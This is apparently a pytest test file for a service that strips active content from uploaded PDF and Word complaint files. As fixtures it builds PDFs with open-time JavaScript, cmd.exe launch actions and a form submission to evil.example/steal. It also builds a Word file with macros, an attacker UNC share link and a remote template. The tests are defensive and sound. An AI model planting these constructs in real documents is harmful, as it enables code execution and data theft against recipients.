"""Active content is removed from PDFs and Word files before they are stored (complaints.uploads).

Each hostile PDF is built with pikepdf, or assembled byte by byte where the trick is in the file's
structure, and hides its active part where a pattern search over the raw bytes did not look. The
stored copy is read again by qpdf, and its text by poppler's pdftotext (another parser than the
one that wrote it)."""

import io
import multiprocessing
import os
import signal
import time
import zipfile
import zlib

import pikepdf
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name, String

from complaints.tests import pdfs, samples
from complaints.uploads import UploadRejected, _pdf_uncheckable_message, isolation, pdf, upload_check
from complaints.uploads import docx as word

TEXT = ["Claim denied in full\n"]
CATALOG_OPENS = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
JS_ACTION = b"<< /S /JavaScript /JS (app.alert('x')) >>"
FILLER = {10 + i: b"<< /Type /Filler /Note (%s) >>" % (b"ordinary object %d" % i) for i in range(3000)}


def _page_with(**extra) -> bytes:
    """The one-page letter with entries added to its page dictionary (pikepdf objects)."""

    def change(document):
        for key, value in extra.items():
            document.pages[0].obj[Name("/" + key)] = value(document) if callable(value) else value

    return pdfs.edited(pdfs.page_pdf("Claim denied in full"), change)


def _root_with(**extra) -> bytes:
    def change(document):
        for key, value in extra.items():
            document.Root[Name("/" + key)] = value(document) if callable(value) else value

    return pdfs.edited(pdfs.page_pdf("Claim denied in full"), change)


def _xfa(document):
    template = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script></template></xdp:xdp>'
    )
    stream = document.make_stream(b"")
    stream.write(zlib.compress(template), filter=Name.FlateDecode)
    return Dictionary(Fields=Array(), XFA=stream)


def _attachment(document):
    document.attachments["update.exe"] = pikepdf.AttachedFileSpec(document, samples.WINDOWS_PROGRAM)


def _link(action: Dictionary):
    return lambda document: Array(
        [document.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 50]), A=action))]
    )


HOSTILE = {
    "JavaScript when the file opens": (
        pdfs.with_open_action_javascript(pdfs.page_pdf("Claim denied in full")),
        "JAVASCRIPT",
    ),
    "action in an object stream with a 5 KB dictionary and 3000 objects": (
        pdfs.assemble({**pdfs.PAGE_OBJECTS, 1: CATALOG_OPENS}, packed={**FILLER, 6: JS_ACTION}, stream_padding=5000),
        "JAVASCRIPT",
    ),
    "action in an object stream behind a PNG predictor": (
        pdfs.assemble({**pdfs.PAGE_OBJECTS, 1: CATALOG_OPENS}, packed={6: JS_ACTION}, predictor_columns=7),
        "JAVASCRIPT",
    ),
    "XFA form with a script": (
        pdfs.edited(pdfs.page_pdf("Claim denied in full"), lambda d: setattr(d.Root, "AcroForm", _xfa(d))),
        "XFA",
    ),
    "action added by an incremental update": (
        pdfs.incremental_update(pdfs.assemble(pdfs.PAGE_OBJECTS, classic=True), {1: CATALOG_OPENS, 6: JS_ACTION}),
        "JAVASCRIPT",
    ),
    "names with #xx escapes": (
        pdfs.assemble(
            {
                **pdfs.PAGE_OBJECTS,
                1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
                3: pdfs.PAGE_OBJECTS[3][:-2] + b" /AA << /O << /S /L#61unch /F (cmd.exe) >> >> >>",
            }
        ),
        "LAUNCH",
    ),
    "launch action on a link": (_page_with(Annots=_link(Dictionary(S=Name.Launch, F=String("cmd.exe")))), "LAUNCH"),
    "form submission when the page closes": (
        _page_with(AA=Dictionary(C=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/steal")))),
        "SUBMIT_FORM",
    ),
    "data import and another file's page in a chain": (
        _root_with(
            OpenAction=Dictionary(
                S=Name.ImportData,
                F=String("data.fdf"),
                Next=Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0])),
            )
        ),
        "IMPORT_DATA",
    ),
    "document-level JavaScript": (
        _root_with(
            Names=lambda d: Dictionary(
                JavaScript=Dictionary(
                    Names=Array([String("a"), d.make_indirect(Dictionary(S=Name.JavaScript, JS=String("x")))])
                )
            )
        ),
        "JAVASCRIPT",
    ),
    "embedded program": (pdfs.edited(pdfs.page_pdf("Claim denied in full"), _attachment), "EMBEDDED_FILE"),
    "rich media annotation": (
        _page_with(
            Annots=lambda d: Array(
                [d.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9])))]
            )
        ),
        "RICH_MEDIA",
    ),
    "link to a local file": (
        _page_with(Annots=_link(Dictionary(S=Name.URI, URI=String("file:///c:/windows/system32/calc.exe")))),
        "UNSAFE_LINK",
    ),
    "PDF/HTML polyglot with a script after the end": (
        pdfs.with_open_action_javascript(pdfs.page_pdf("Claim denied in full"))
        + b"<html><script>alert(1)</script></html>",
        "JAVASCRIPT",
    ),
}


@pytest.mark.parametrize("label", list(HOSTILE))
def test_active_content_is_removed_and_the_pages_are_unchanged(label):
    data, code = HOSTILE[label]
    assert code in pdfs.active_codes(data), "the test file must carry what it claims to"
    checked = upload_check(data)
    assert checked.content_type == "application/pdf"
    assert code in checked.active_content_removed
    assert pdfs.active_codes(checked.data) == []
    assert b"<script" not in checked.data
    assert pdfs.pdftotext(checked.data) == TEXT


def test_a_web_link_and_the_pages_of_a_clean_pdf_stay():
    letter = pdfs.page_pdf("Page one of the denial", "Page two: your appeal rights", "Page three")
    linked = pdfs.edited(
        letter,
        lambda d: d.pages[0].obj.__setitem__(
            Name.Annots, _link(Dictionary(S=Name.URI, URI=String("https://www.dmhc.ca.gov/")))(d)
        ),
    )
    for data in (letter, linked):
        checked = upload_check(data)
        assert checked.active_content_removed == []
        assert pdfs.pdftotext(checked.data) == pdfs.pdftotext(data)
        assert len(pdfs.pdftotext(checked.data)) == 3
    with pikepdf.open(io.BytesIO(upload_check(linked).data)) as kept:
        assert str(kept.pages[0].obj.Annots[0].A.URI) == "https://www.dmhc.ca.gov/"


def test_a_pdf_encrypted_only_against_changes_is_disarmed_and_stored_unencrypted():
    output = io.BytesIO()
    with pikepdf.open(io.BytesIO(HOSTILE["JavaScript when the file opens"][0])) as document:
        document.save(output, encryption=pikepdf.Encryption(owner="owner-secret", user=""))
    checked = upload_check(output.getvalue())
    assert checked.active_content_removed == ["JAVASCRIPT"]
    with pikepdf.open(io.BytesIO(checked.data)) as kept:
        assert not kept.is_encrypted


def _locked_pdf() -> bytes:
    output = io.BytesIO()
    with pikepdf.open(io.BytesIO(samples.PDF)) as document:
        document.save(output, encryption=pikepdf.Encryption(owner="owner-secret", user="user-secret"))
    return output.getvalue()


@pytest.mark.parametrize(
    "data",
    [_locked_pdf(), b"%PDF-1.7\n" + b"\x00garbage that is no PDF at all" * 20, samples.PDF[:40]],
    ids=["password", "garbage", "truncated"],
)
def test_a_pdf_that_cannot_be_opened_is_refused_with_the_same_message(data):
    with pytest.raises(UploadRejected, match="We could not check this PDF"):
        upload_check(data)


def test_an_object_stream_bomb_stays_within_the_limits(settings):
    """1 MB that expands to 1 GB inside an object stream: the child process runs out of room, and
    the file is refused or stored without anything active; the web process is unharmed."""
    settings.UPLOAD_PDF_MEMORY_LIMIT_BYTES = 512 * 1024 * 1024
    compressor = zlib.compressobj(9)
    head = b"6 0\n"
    stream = compressor.compress(head + JS_ACTION + b"\n")
    stream += b"".join(compressor.compress(b" " * (1024 * 1024)) for _ in range(1024)) + compressor.flush()
    bomb = pdfs.assemble({**pdfs.PAGE_OBJECTS, 1: CATALOG_OPENS}, packed={6: JS_ACTION}, packed_stream=stream)
    try:
        checked = upload_check(bomb)
    except UploadRejected as refused:
        message = refused.message
    else:
        message = ""
        assert pdfs.active_codes(checked.data) == []
    assert message in ("", _pdf_uncheckable_message())


def test_a_file_still_active_after_rewriting_is_refused(monkeypatch):
    """The last guard: if a copy read again still had something active, it is not stored."""
    finds_only = pdf._sweep
    # A sweep that finds but forgets to remove, and no second pass: the check of the copy must catch it.
    monkeypatch.setattr(pdf, "_sweep", lambda document, remove: finds_only(document, remove=False))
    monkeypatch.setattr(pdf, "_library_pass", lambda document: None)
    with pytest.raises(pdf.NotDisarmed) as refused:
        pdf.disarm(HOSTILE["JavaScript when the file opens"][0])
    assert refused.value.reason == pdf.STILL_ACTIVE


# ---- mutations of real PDFs ---------------------------------------------------------------------
SEEDS = [samples.PDF, *(data for data, _code in list(HOSTILE.values())[:6])]
SNIPPETS = [
    b"/JavaScript",
    b"/JS (app.alert(1))",
    b"/OpenAction << /S /Launch /F (x) >>",
    b"/XFA 6 0 R",
    b"#",
    b"obj",
    b"endobj",
    b"stream\n",
    b"<<",
    b">>",
    b"\x00" * 8,
]


@st.composite
def mutated_pdfs(draw):
    data = bytearray(draw(st.sampled_from(SEEDS)))
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, len(data)))
        action = draw(st.sampled_from(["flip", "cut", "insert", "truncate"]))
        if action == "flip" and at < len(data):
            data[at] ^= draw(st.integers(1, 255))
        elif action == "cut":
            del data[at : at + draw(st.integers(1, 64))]
        elif action == "insert":
            data[at:at] = draw(st.sampled_from(SNIPPETS))
        elif action == "truncate" and at > 8:
            del data[at:]
    return bytes(data)


@settings(
    max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture]
)
@given(data=mutated_pdfs())
def test_mutated_pdfs_are_refused_or_stored_without_active_content(data):
    try:
        checked = upload_check(data)
    except UploadRejected:
        return
    if checked.content_type == "application/pdf":
        assert pdfs.active_codes(checked.data) == []


# ---- Word ---------------------------------------------------------------------------------------
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MACROS = "http://schemas.microsoft.com/office/2006/relationships"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    '<Override PartName="/word/embeddings/oleObject1.bin" '
    'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>'
)


def _relationship(number: int, kind: str, target: str, *, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}"{mode}/>'


def _word(parts: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def test_macros_embedded_objects_and_outside_links_are_removed_from_a_word_file():
    hostile = _word(
        {
            "[Content_Types].xml": TYPES,
            "word/document.xml": "<w:document>The plan denied the request.</w:document>",
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro",
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0ole",
            "word/_rels/document.xml.rels": (
                f'<Relationships xmlns="{RELS}">'
                + _relationship(1, f"{MACROS}/vbaProject", "vbaProject.bin")
                + _relationship(2, f"{OFFICE}/oleObject", "embeddings/oleObject1.bin")
                + _relationship(3, f"{OFFICE}/hyperlink", "https://www.dmhc.ca.gov/", external=True)
                + _relationship(4, f"{OFFICE}/image", "\\\\attacker\\share\\x.png", external=True)
                + "</Relationships>"
            ),
            "word/_rels/settings.xml.rels": (
                f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                'Target="https://evil.example/template.dotm" TargetMode="External"/></Relationships>'
            ),
        }
    )
    checked = upload_check(hostile)
    assert checked.active_content_removed == ["WORD_EMBEDDED_OBJECT", "WORD_EXTERNAL_LINK", "WORD_MACROS"]
    with zipfile.ZipFile(io.BytesIO(checked.data)) as kept:
        names = kept.namelist()
        document_rels = kept.read("word/_rels/document.xml.rels").decode()
        settings_rels = kept.read("word/_rels/settings.xml.rels").decode()
        types = kept.read("[Content_Types].xml").decode()
        assert kept.read("word/document.xml") == b"<w:document>The plan denied the request.</w:document>"
    assert names == [
        "[Content_Types].xml",
        "word/document.xml",
        "word/_rels/document.xml.rels",
        "word/_rels/settings.xml.rels",
    ]
    assert "https://www.dmhc.ca.gov/" in document_rels
    for removed in ("attacker", "vbaProject", "oleObject"):
        assert removed not in document_rels
    assert "evil.example" not in settings_rels
    for removed in ("macroEnabled", "oleObject1", 'Extension="bin"'):
        assert removed not in types
    assert 'xmlns="http://schemas.openxmlformats.org/package/2006/content-types"' in types


def test_a_clean_word_file_keeps_its_parts():
    checked = upload_check(samples.docx())
    assert checked.active_content_removed == []
    with zipfile.ZipFile(io.BytesIO(checked.data)) as kept:
        assert kept.read("word/document.xml") == b"<w:document/>"


def test_a_word_file_that_cannot_be_read_is_refused():
    broken = samples.docx()[:-30]
    with pytest.raises(UploadRejected):
        upload_check(broken)
    with pytest.raises(word.NotDisarmed):
        word.disarm(broken, max_entries=10, max_expanded_bytes=10**6, max_ratio=50)


def test_a_process_forked_after_the_first_check_still_checks_pdfs():
    """gunicorn's and the fuzz tests' workers are forked from a process that may already have
    checked a file: the fork checks its own files the same way."""
    upload_check(samples.PDF)
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child reports through the pipe
        try:
            answer = (
                b"1" if upload_check(samples.PDF_WITH_JAVASCRIPT).active_content_removed == ["JAVASCRIPT"] else b"0"
            )
        except BaseException:
            answer = b"E"
        os.write(write, answer)
        os._exit(0)
    os.close(write)
    answer = os.read(read, 1)
    os.close(read)
    os.waitpid(pid, 0)
    assert answer == b"1"


def _check_in_daemon(pipe) -> None:
    try:
        pipe.send(upload_check(samples.PDF_WITH_JAVASCRIPT).active_content_removed)
    except UploadRejected as refused:
        pipe.send(refused.message)


def test_a_daemonic_worker_checks_pdfs_too():
    """multiprocessing.Pool's and Celery's pool workers are daemonic, and a daemonic process may not
    start multiprocessing children; the check forks plainly, so it works there as anywhere."""
    context = multiprocessing.get_context("fork")
    receiver, sender = context.Pipe(duplex=False)
    daemon = context.Process(target=_check_in_daemon, args=(sender,), daemon=True)
    daemon.start()
    answer = receiver.recv() if receiver.poll(60) else "no answer"
    daemon.join(10)
    assert answer == ["JAVASCRIPT"]


def test_a_child_that_dies_without_answering_makes_the_pdf_unchecked(monkeypatch):
    """A parser killed by its limits (or a crash) answers nothing: the file is refused, not stored."""
    monkeypatch.setattr(pdf, "disarm", _die_at_once)
    with pytest.raises(UploadRejected) as refused:
        upload_check(samples.PDF)
    assert refused.value.message == _pdf_uncheckable_message()


def _die_at_once(data):
    os.kill(os.getpid(), signal.SIGKILL)


def _allocate(megabytes: int):
    return bytes(megabytes * 1024 * 1024), []


def test_a_child_that_needs_more_memory_than_its_limit_answers_nothing():
    """The limit is on how far the child grows beyond what it inherited: 256 MB more than a
    64 MB allowance is refused in the child, and the caller hears nothing (so refuses the file)."""
    allowed = isolation.run_limited(
        lambda data: _allocate(16), b"", refusal=pdf.NotDisarmed, memory_bytes=512 * 2**20, seconds=30
    )
    assert allowed.data == bytes(16 * 2**20)
    with pytest.raises(isolation.LimitExceeded):
        isolation.run_limited(
            lambda data: _allocate(256), b"", refusal=pdf.NotDisarmed, memory_bytes=64 * 2**20, seconds=30
        )


def _hang(pid_file: str):
    def hang(data):
        with open(pid_file, "w") as written:
            written.write(str(os.getpid()))
        time.sleep(60)  # asleep, not using CPU: only the parent's deadline ends it
        return b"", []

    return hang


def test_a_child_that_overruns_its_time_is_killed_and_answers_nothing(tmp_path):
    """A parser stuck waiting (not burning CPU, which its CPU limit would stop) is ended by the
    parent at the time limit: the caller hears nothing in time and no child is left behind."""
    pid_file = tmp_path / "child.pid"
    started = time.monotonic()
    with pytest.raises(isolation.LimitExceeded):
        isolation.run_limited(_hang(str(pid_file)), b"", refusal=pdf.NotDisarmed, memory_bytes=64 * 2**20, seconds=2)
    assert time.monotonic() - started < 10
    with pytest.raises(ProcessLookupError):  # killed and reaped, not a zombie
        os.kill(int(pid_file.read_text()), 0)
